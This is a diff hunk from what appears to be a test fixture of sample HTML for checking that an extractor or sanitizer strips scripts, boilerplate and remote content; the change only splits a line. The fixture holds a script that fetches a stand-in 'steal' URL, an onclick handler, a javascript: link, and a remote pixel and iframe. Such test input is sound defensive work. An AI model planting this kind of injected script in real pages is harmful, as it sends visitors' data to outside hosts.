@@ -49,7 +49,8 @@ SCRIPTED_HTML = """<!doctype html><html><head><title>t</title>
 <script>document.write("SCRIPT-RAN"); fetch("http://example.invalid/steal")</script></head>
 <body><nav><a href="/">Home</a> <a href="/about">About</a></nav>
 <div class="cookie-banner">We use cookies. Accept all?</div>
-<main><h1>Kept heading</h1><p onclick="alert('x')">Kept paragraph with <a href="javascript:alert(1)">a fake link</a>.</p>
+<main><h1>Kept heading</h1>
+<p onclick="alert('x')">Kept paragraph with <a href="javascript:alert(1)">a fake link</a>.</p>
 <img src="http://example.invalid/pixel.png" alt="A remote picture">
 <iframe src="http://example.invalid/frame"></iframe></main>
 <footer>Copyright footer text</footer></body></html>"""
